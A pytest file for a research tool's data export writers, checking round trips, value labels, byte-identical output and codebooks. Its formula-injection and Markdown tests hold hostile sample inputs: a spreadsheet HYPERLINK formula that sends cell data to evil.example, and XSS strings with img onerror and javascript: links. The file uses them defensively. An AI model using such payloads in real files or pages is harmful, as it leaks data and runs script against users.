"""Export writers without a database: round trips, labels, formula neutralisation, byte identity.

One small hand-made table with every column type (text with commas, quotes, line breaks and
umlauts; a categorical text column; integers, numbers, dates and booleans, each with a
missing value) is written in every format and read back with the tools analysts use.
"""

from __future__ import annotations

import io
import json
import re
import time
import zipfile
from dataclasses import dataclass, field
from datetime import date, datetime

import numpy as np
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pyreadstat
import pytest

from mbtcode.io import export_formats as ef


@dataclass(frozen=True)
class Col:
    name: str
    label: str
    type: str
    description: str
    values: dict = field(default_factory=dict)
    item_id: str | None = None


@dataclass
class Table:
    level: str
    frame: pd.DataFrame
    columns: list
    metadata: dict


PHASES = {1: "initial", 2: "main", 3: "final"}
COLUMNS = [
    Col("session", "Session label", "string", "Label."),
    Col("phase", "Treatment phase", "string", "Phase.", PHASES),
    Col("session_number", "Session number", "integer", "Number."),
    Col("adherence_mean", "Adherence: mean over items", "number", "Mean."),
    Col("session_date", "Session date", "date", "Date."),
    Col("adherence_adequate", "Adherence: adequate", "boolean", "Adequate.", dict(ef.BOOLEAN_LABELS)),
    Col("item_2_adherence", "Item 2 Exploration [Adherence]", "number", "Item.", item_id="2"),
]
LABELS = ["Zürich, \"quoted\"", "line\nbreak", None, "plain"]
METADATA = {"study": "Test study", "level": "session", "scheme_revision": "mbt-individual@1",
            "scheme_version": "1.1.0", "scoring_version": "1.0", "row_order": "by label",
            "counting_rule": "consensus, gold, single rater, mean of raters",
            "include_text": "false", "include_notes": "false"}


def make_table(frame: pd.DataFrame | None = None, columns=None, metadata=None) -> Table:
    if frame is None:
        frame = pd.DataFrame({
            "session": LABELS,
            "phase": ["initial", None, "final", "main"],
            "session_number": pd.array([1, None, 12, 3], dtype="Int64"),
            "adherence_mean": [4.5, np.nan, 63 / 13, -2.0],
            "session_date": [date(2026, 1, 5), None, date(2026, 2, 2), date(2025, 12, 31)],
            "adherence_adequate": pd.array([True, None, True, False], dtype="boolean"),
            "item_2_adherence": [3.0, 6.0, np.nan, 7.0],
        })
    columns = columns or COLUMNS
    return Table("session", ef.normalise_frame(frame, columns), list(columns), dict(metadata or METADATA))


@pytest.fixture
def table() -> Table:
    return make_table()


def read_back(fmt: str, data: bytes, tmp_path):
    path = tmp_path / f"t.{fmt}"
    path.write_bytes(data)
    reader = pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta
    return reader(str(path))


# ----------------------------------------------------------------------------- SPSS and Stata


@pytest.mark.parametrize("fmt", ["sav", "dta"])
def test_spss_and_stata_round_trip_values_and_labels(table, fmt, tmp_path):
    frame, meta = read_back(fmt, ef.write(table, fmt), tmp_path)
    assert list(frame.columns) == [c.name for c in COLUMNS]
    # variable labels
    assert meta.column_names_to_labels == {c.name: c.label for c in COLUMNS}
    # value labels: categorical text and booleans are integer codes with labels
    labels = {k: {int(code): text for code, text in v.items()}
              for k, v in meta.variable_value_labels.items()}
    assert labels == {"phase": PHASES, "adherence_adequate": {0: "false", 1: "true"}}
    assert frame["phase"].tolist()[:1] == [1.0] and np.isnan(frame["phase"][1])
    assert frame["phase"].tolist()[2:] == [3.0, 2.0]
    assert frame["adherence_adequate"].tolist()[0] == 1.0 and frame["adherence_adequate"][3] == 0.0
    assert np.isnan(frame["adherence_adequate"][1])
    # text exact (no apostrophes, umlauts and line breaks kept); missing text is empty
    assert frame["session"].tolist()[:2] == LABELS[:2]
    assert frame["session"].fillna("").tolist()[2] == ""
    # numbers and integers
    assert frame["session_number"].tolist()[0] == 1 and np.isnan(frame["session_number"][1])
    assert frame["adherence_mean"][2] == pytest.approx(63 / 13, abs=1e-12)
    assert frame["adherence_mean"][3] == -2.0 and np.isnan(frame["adherence_mean"][1])
    # dates are dates
    assert frame["session_date"][0] == date(2026, 1, 5) and pd.isna(frame["session_date"][1])
    # the labels applied give back the text of the CSV
    labelled, _ = (pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta)(
        str(tmp_path / f"t.{fmt}"), apply_value_formats=True)
    assert labelled["phase"].tolist()[0] == "initial" and labelled["adherence_adequate"][0] == "true"
    # the file label carries the scheme and scoring versions
    assert "mbt-individual@1" in meta.file_label and "scoring 1.0" in meta.file_label


def test_spss_notes_carry_the_metadata(table, tmp_path):
    _, meta = read_back("sav", ef.write(table, "sav"), tmp_path)
    notes = " ".join(meta.notes)
    assert "scoring_version: 1.0" in notes and "scheme_revision: mbt-individual@1" in notes


@pytest.mark.parametrize("fmt", ["sav", "dta"])
def test_creation_time_is_pinned(table, fmt, tmp_path):
    """pyreadstat stamps the clock into the header; the writer pins it (2000-01-01 00:00)."""
    _, meta = read_back(fmt, ef.write(table, fmt), tmp_path)
    assert meta.creation_time == ef.FIXED_TIMESTAMP
    # without the pin the header holds today's date: the patch is what makes files identical
    raw_path = tmp_path / f"raw.{fmt}"
    writer = pyreadstat.write_sav if fmt == "sav" else pyreadstat.write_dta
    writer(pd.DataFrame({"x": [1.0]}), str(raw_path))
    _, raw_meta = (pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta)(str(raw_path))
    assert raw_meta.creation_time.date() == datetime.now().date()


def test_all_missing_date_column_stays_a_date(tmp_path):
    frame = pd.DataFrame({"session_date": [None, None]})
    columns = [Col("session_date", "Session date", "date", "Date.")]
    for fmt, expected in (("sav", "DATE11"), ("dta", "%td")):
        _, meta = read_back(fmt, ef.write(make_table(frame, columns), fmt), tmp_path)
        assert meta.original_variable_types["session_date"] == expected


def test_long_labels_are_cut_for_stata(tmp_path):
    columns = [Col("x", "L" * 120, "number", "long label")]
    frame = pd.DataFrame({"x": [1.0]})
    _, meta = read_back("dta", ef.write(make_table(frame, columns), "dta"), tmp_path)
    assert meta.column_names_to_labels["x"] == "L" * 80


def test_text_without_a_value_label_is_refused_for_spss():
    frame = pd.DataFrame({"phase": ["initial", "later"]})
    columns = [Col("phase", "Phase", "string", "Phase.", PHASES)]
    with pytest.raises(ef.ExportFormatError, match="'later' has no value label"):
        ef.write(make_table(frame, columns), "sav")


# ----------------------------------------------------------------------------- Parquet, CSV, Excel


def test_parquet_round_trip_with_metadata(table):
    data = ef.write(table, "parquet")
    back = pd.read_parquet(io.BytesIO(data))
    assert list(back.columns) == [c.name for c in COLUMNS]
    assert back["session"].tolist()[:2] == LABELS[:2] and pd.isna(back["session"][2])
    assert back["phase"].tolist()[0] == "initial"
    assert back["session_number"].tolist()[0] == 1 and pd.isna(back["session_number"][1])
    assert back["adherence_mean"][0] == 4.5 and pd.isna(back["adherence_mean"][1])
    assert back["adherence_adequate"][0] is True or back["adherence_adequate"][0] == True  # noqa: E712
    schema = pq.read_schema(io.BytesIO(data))
    meta = {k.decode(): v.decode() for k, v in schema.metadata.items()}
    assert meta["mbtcode.scoring_version"] == "1.0"
    assert meta["mbtcode.scheme_revision"] == "mbt-individual@1"
    codebook = json.loads(meta["mbtcode.codebook"])
    assert [c["name"] for c in codebook["columns"]] == [c.name for c in COLUMNS]
    field_meta = schema.field("item_2_adherence").metadata
    assert field_meta[b"label"].decode() == "Item 2 Exploration [Adherence]"
    assert field_meta[b"original_id"] == b"2"
    assert str(schema.field("session_date").type) == "date32[day]"
    assert str(schema.field("session_number").type) == "int64"
    assert str(schema.field("adherence_adequate").type) == "bool"


def test_csv_round_trip(table):
    data = ef.write(table, "csv")
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    assert b"\r\n" not in data
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == ",".join(c.name for c in COLUMNS)
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False, dtype=str)
    assert back["session"].tolist() == ["Zürich, \"quoted\"", "line\nbreak", "", "plain"]
    assert back["phase"].tolist() == ["initial", "", "final", "main"]
    assert back["session_number"].tolist() == ["1", "", "12", "3"]
    assert back["adherence_mean"].tolist() == ["4.5", "", repr(63 / 13), "-2.0"]
    assert back["session_date"].tolist() == ["2026-01-05", "", "2026-02-02", "2025-12-31"]
    assert back["adherence_adequate"].tolist() == ["true", "", "true", "false"]
    # read as analysts do: numbers are numbers
    typed = pd.read_csv(io.BytesIO(data))
    assert list(typed.columns) == [c.name for c in COLUMNS]
    assert typed["adherence_mean"][0] == 4.5 and typed["adherence_mean"][3] == -2.0


def test_xlsx_round_trip_with_codebook_and_metadata_sheets(table):
    data = ef.write(table, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["data", "codebook", "metadata"]
    sheet = book["data"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == [c.name for c in COLUMNS]
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["session"] == "Zürich, \"quoted\"" and first["phase"] == "initial"
    assert first["session_number"] == 1 and first["adherence_mean"] == 4.5
    assert first["session_date"].date() == date(2026, 1, 5)
    assert first["adherence_adequate"] is True
    missing = dict(zip(rows[0], rows[2], strict=True))
    assert missing["adherence_mean"] is None and missing["session_date"] is None
    assert rows[4][3] == -2.0  # a negative number stays a number
    assert sheet["A1"].font.b and sheet["E2"].number_format == "yyyy-mm-dd" and sheet.freeze_panes == "A2"
    codebook = list(book["codebook"].iter_rows(values_only=True))
    assert codebook[0][:2] == ("name", "label")
    assert [r[0] for r in codebook[1:]] == [c.name for c in COLUMNS]
    assert codebook[2][4] == "1 = initial; 2 = main; 3 = final"
    metadata = dict(list(book["metadata"].iter_rows(values_only=True))[1:])
    assert metadata["scoring_version"] == "1.0"


def test_xlsx_refuses_more_rows_than_a_sheet_holds():
    frame = pd.DataFrame({"x": np.zeros(ef.XLSX_MAX_ROWS)})
    table = make_table(frame, [Col("x", "X", "number", "x")])
    with pytest.raises(ef.ExportFormatError, match="at most 1,048,575"):
        ef.write(table, "xlsx")


# ----------------------------------------------------------------------------- formula injection

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)",
           "\tcmd", "\r=1+1", "harmless", "a=b"]


def hostile_table() -> Table:
    frame = pd.DataFrame({"speaker": HOSTILE, "value": [-2.0, 1.0, -3.5, 0.0, 1.0, 2.0, 3.0, 4.0]})
    return make_table(frame, [Col("speaker", "Speaker", "string", "s"),
                              Col("value", "Value", "number", "v")])


def expected_neutral(text: str) -> str:
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def test_csv_neutralises_formulas_but_not_numbers():
    data = ef.write(hostile_table(), "csv")
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False,
                       dtype={"speaker": str})
    assert back["speaker"].tolist() == [expected_neutral(t) for t in HOSTILE]
    assert back["speaker"][0] == '\'=HYPERLINK("http://evil.example/?d="&A1,"click")'
    assert back["value"].tolist() == [-2.0, 1.0, -3.5, 0.0, 1.0, 2.0, 3.0, 4.0]
    for line in data.decode("utf-8-sig").split("\n")[1:]:
        assert not line.startswith(("=", "+", "@", "\t")), line


def test_xlsx_writes_text_as_text_never_as_formula():
    data = ef.write(hostile_table(), "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet_xml and "<hyperlink" not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(data))["data"]
    texts = [sheet.cell(row=i, column=1) for i in range(2, len(HOSTILE) + 2)]
    # XlsxWriter stores a carriage return as _x000D_ (Excel's escape; Excel shows \r)
    assert [c.value.replace("_x000D_", "\r") for c in texts] == [expected_neutral(t) for t in HOSTILE]
    assert all(c.data_type == "s" for c in texts)
    numbers = [sheet.cell(row=i, column=2) for i in range(2, len(HOSTILE) + 2)]
    assert [c.value for c in numbers] == [-2, 1, -3.5, 0, 1, 2, 3, 4]
    assert all(c.data_type == "n" for c in numbers)


@pytest.mark.parametrize("fmt", ["parquet", "sav", "dta"])
def test_statistics_formats_keep_text_exact(fmt, tmp_path):
    data = ef.write(hostile_table(), fmt)
    if fmt == "parquet":
        values = pd.read_parquet(io.BytesIO(data))["speaker"].tolist()
    else:
        values = read_back(fmt, data, tmp_path)[0]["speaker"].tolist()
    assert values == HOSTILE


# ----------------------------------------------------------------------------- byte identity


def test_same_table_gives_identical_bytes_a_second_later():
    first = {fmt: ef.write(make_table(), fmt) for fmt in ef.FORMATS}
    time.sleep(1.1)
    second = {fmt: ef.write(make_table(), fmt) for fmt in ef.FORMATS}
    for fmt in ef.FORMATS:
        assert first[fmt] == second[fmt], fmt


def test_xlsx_document_date_and_member_times_are_fixed(table):
    data = ef.write(table, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        core = archive.read("docProps/core.xml").decode()
        assert "2000-01-01T00:00:00Z" in core
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_bundle_and_zip_differ_only_in_the_manifest(table):
    one = ef.bundle(table, "csv", "scores.csv", now=datetime(2026, 1, 1, 12, 0))
    two = ef.bundle(table, "csv", "scores.csv", now=datetime(2026, 1, 2, 12, 0))
    assert list(one) == ["scores.csv", "scores.csv.codebook.md", "scores.csv.codebook.json",
                         "scores.csv.manifest.json"]
    assert [n for n in one if one[n] != two[n]] == ["scores.csv.manifest.json"]
    zip_one, zip_two = ef.zip_files(one), ef.zip_files(two)
    with zipfile.ZipFile(io.BytesIO(zip_one)) as a, zipfile.ZipFile(io.BytesIO(zip_two)) as b:
        assert a.namelist() == list(one)
        assert {i.date_time for i in a.infolist()} == {ef.ZIP_MEMBER_TIME}
        assert [n for n in a.namelist() if a.read(n) != b.read(n)] == ["scores.csv.manifest.json"]
        manifest = json.loads(a.read("scores.csv.manifest.json"))
    assert manifest["generated_at"] == "2026-01-01T12:00:00Z"
    assert manifest["rows"] == 4 and manifest["include_text"] is False
    assert manifest["files"]["scores.csv"]["sha256"] == ef.sha256(one["scores.csv"])
    assert set(manifest["files"]) == {"scores.csv", "scores.csv.codebook.md", "scores.csv.codebook.json"}


# ----------------------------------------------------------------------------- codebook, names


def test_codebook_documents_every_column(table):
    book = ef.codebook_json(table)
    assert [c["name"] for c in book["columns"]] == [c.name for c in COLUMNS]
    phase = book["columns"][1]
    assert phase["categorical"] and phase["values"] == [
        {"value": 1, "label": "initial"}, {"value": 2, "label": "main"}, {"value": 3, "label": "final"}]
    assert book["columns"][6]["original_id"] == "2"
    assert book["row_order"] == "by label" and book["counting_rule"].startswith("consensus")
    assert set(book["formats"]) == set(ef.FORMATS)
    text = ef.codebook_markdown(table)
    for column in COLUMNS:
        assert f"`{column.name}`" in text
    assert "- `phase`: 1 = initial, 2 = main, 3 = final" in text
    assert "Original item id: `2`" in text


def test_markdown_cells_escape_pipes_and_tags():
    columns = [Col("coder", "Coder | who", "string", "R<number> of a rater\nsecond line")]
    text = ef.codebook_markdown(make_table(pd.DataFrame({"coder": ["R1"]}), columns))
    assert "Coder \\| who" in text and "R\\<number\\> of a rater second line" in text


HOSTILE_NAME = "<img src=x onerror=alert(1)> | [x](javascript:alert(1))"


def _literal(markdown: str) -> str:
    """What is left of Markdown once backslash escapes and code spans are taken out."""
    text = re.sub(r"(`+).*?\1", "", re.sub(r"\\.", "", markdown))
    return text


def test_markdown_codebook_shows_user_text_literally():
    """A study, labels, descriptions, value labels, item ids and metadata full of Markdown and
    HTML: the codebook shows them as text (CommonMark: a backslash-escaped punctuation
    character is itself), never as an image, a link, HTML or a new table cell."""
    hostile = HOSTILE_NAME + " **b** _i_ `c` &lt; ~~s~~ $x$ ![i](http://evil.example/i.png) <https://evil.example>"
    columns = [
        Col("phase", hostile, "string", "Phase " + hostile, {1: hostile, 2: "main"}),
        Col("item_x", "Item", "number", "d", item_id="x`y | [z](javascript:alert(1))"),
    ]
    metadata = {**METADATA, "study": HOSTILE_NAME, "scheme_title": hostile, "row_order": hostile,
                "counting_rule": hostile}
    frame = pd.DataFrame({"phase": [hostile, "main"], "item_x": [1.0, 2.0]})
    text = ef.codebook_markdown(make_table(frame, columns, metadata))
    title = text.splitlines()[0]
    assert title == ("# mbtcode export codebook: \\<img src=x onerror=alert\\(1\\)\\> \\| "
                     "\\[x\\]\\(javascript:alert\\(1\\)\\), session level")
    assert re.sub(r"\\(.)", r"\1", title) == f"# mbtcode export codebook: {HOSTILE_NAME}, session level"
    left = _literal(text)
    assert HOSTILE_NAME not in text and "](" not in left and not re.search(r"(?<!\\)<img", text)
    assert not [c for c in "<>[]()!&~$" if c in left], [c for c in "<>[]()!&~$" if c in left]
    assert "http://" not in left and "https://" not in left
    # every table row keeps its number of cells: no pipe from the data ends a cell
    rows = [line for line in text.splitlines() if line.startswith("| ")]
    cells = {line.split(" | ")[0]: len(re.findall(r"(?<!\\)\|", line)) for line in rows}
    assert set(cells.values()) <= {3, 6}, cells
    assert "Original item id: ``x`y \\| [z](javascript:alert(1))``." in text


@pytest.mark.parametrize(("raw", "expected"), [
    ("item_2_adherence", "item_2_adherence"),
    ("Item 2 (Ädherence)", "item_2_adherence"),
    ("item_warmth-2_competence", "item_warmth_2_competence"),
    ("2", "v_2"),
    ("", "v"),
    ("if", "if_x"),
    ("with", "with_x"),
])
def test_safe_column_names(raw, expected):
    assert ef.safe_column_name(raw) == expected


def test_long_and_clashing_names_stay_valid_and_distinct():
    used: set[str] = set()
    a = ef.safe_column_name("overall_technical_global_spirit_adequate", used)
    b = ef.safe_column_name("overall_technical_global_spirit_adequacy", used)
    c = ef.safe_column_name("item 2", used)
    d = ef.safe_column_name("item-2", used)
    for name in (a, b, c, d):
        assert len(name) <= 32 and name[0].isalpha() and name == name.lower()
    assert len({a, b, c, d}) == 4 and (c, d) == ("item_2", "item_2_2")


def test_invalid_tables_are_refused():
    frame = pd.DataFrame({"Bad Name": [1.0]})
    bad = Table("session", frame, [Col("Bad Name", "x", "number", "x")], {})
    with pytest.raises(ef.ExportFormatError, match="not valid in every format"):
        ef.write(bad, "csv")
    mismatch = Table("session", pd.DataFrame({"a": [1.0]}), [Col("b", "x", "number", "x")], {})
    with pytest.raises(ef.ExportFormatError, match="not the table's columns"):
        ef.write(mismatch, "csv")
    with pytest.raises(ef.ExportFormatError, match="unknown format"):
        ef.write(make_table(), "xls")


def test_neutralise():
    assert ef.neutralise("=1+1") == "'=1+1"
    assert ef.neutralise("-") == "'-"
    assert ef.neutralise("") == ""
    assert ef.neutralise("TH-01") == "TH-01"


def test_an_empty_table_writes_in_every_format(tmp_path):
    empty = make_table(pd.DataFrame({c.name: [] for c in COLUMNS}))
    for fmt in ef.FORMATS:
        data = ef.write(empty, fmt)
        if fmt in ("sav", "dta"):
            frame, meta = read_back(fmt, data, tmp_path)
            assert len(frame) == 0 and meta.column_names_to_labels["phase"] == "Treatment phase"
        elif fmt == "csv":
            assert data.decode("utf-8-sig") == ",".join(c.name for c in COLUMNS) + "\n"
        elif fmt == "xlsx":
            rows = list(openpyxl.load_workbook(io.BytesIO(data))["data"].iter_rows(values_only=True))
            assert rows == [tuple(c.name for c in COLUMNS)]
        else:
            assert pd.read_parquet(io.BytesIO(data)).shape == (0, len(COLUMNS))


def test_xlsx_text_with_markup_and_control_characters_is_well_formed():
    texts = ["<b>&amp;</b>", " padded ", "bell\x07", "tab\tinside", "_x0041_ literal"]
    frame = pd.DataFrame({"speaker": texts})
    data = ef.write(make_table(frame, [Col("speaker", "Speaker", "string", "s")]), "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data))["data"]
    values = [sheet.cell(row=i, column=1).value for i in range(2, len(texts) + 2)]
    # openpyxl keeps Excel's _xHHHH_ escapes as written; Excel decodes them
    assert values == ["<b>&amp;</b>", " padded ", "bell_x0007_", "tab\tinside", "_x005F_x0041_ literal"]
